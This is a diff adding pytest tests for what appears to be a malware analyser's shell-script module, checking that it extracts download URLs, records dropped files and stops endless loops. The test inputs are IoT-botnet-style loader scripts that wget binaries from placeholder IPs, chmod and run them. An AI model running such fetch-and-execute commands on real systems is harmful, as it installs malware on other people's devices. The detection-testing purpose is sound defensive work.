@@ -121,6 +121,41 @@ def test_strings_say_when_they_stop(settings: AnalysisSettings) -> None:
     assert {hit.limit for hit in report.limits} == {"strings.bytes", "strings.indicators"}
 
 
+LOADER = b"""#!/bin/sh
+A=192.0.2.1
+for x in arm mips; do
+  wget http://$A/bins/$x -O $x; chmod +x $x; ./$x telnet
+done
+echo -ne "\\x7fELF-benign-marker" > /tmp/d
+[ "$(uname -m)" = armv7l ] && curl http://192.0.2.2/only-arm
+"""
+
+
+def test_a_script_gives_the_urls_that_it_builds(settings: AnalysisSettings) -> None:
+    report = _look("scripts", LOADER, settings)
+    urls = {indicator.indicator for indicator in report.indicators}
+    assert urls == {"http://192.0.2.1/bins/arm", "http://192.0.2.1/bins/mips", "http://192.0.2.2/only-arm"}
+    assert {child.name: child.data for child in report.children}["/tmp/d"] == b"\x7fELF-benign-marker"
+    assert any(finding.claim == "script.starts" for finding in report.findings)
+
+
+@pytest.mark.parametrize(
+    "data", [b"<html>wget x; chmod y</html>", b"just a letter\n", b"\x7fELF wget chmod\0", b""]
+)
+def test_what_is_no_script_is_not_run(data: bytes, settings: AnalysisSettings) -> None:
+    assert ANALYSERS.load("scripts").analyse(Artifact.of(data), settings) is None
+
+
+def test_a_script_without_a_first_line_is_known_by_its_commands(settings: AnalysisSettings) -> None:
+    report = _look("scripts", b"cd /tmp || cd /var; wget http://192.0.2.3/a; chmod 777 a; ./a", settings)
+    assert [indicator.indicator for indicator in report.indicators] == ["http://192.0.2.3/a"]
+
+
+def test_an_endless_script_ends(settings: AnalysisSettings) -> None:
+    report = _look("scripts", b"#!/bin/sh\nwhile true; do wget http://192.0.2.4/x; done\n", settings)
+    assert report.limits
+
+
 @pytest.fixture
 def rules(tmp_path: Path) -> Path:
     folder = tmp_path / "rules"
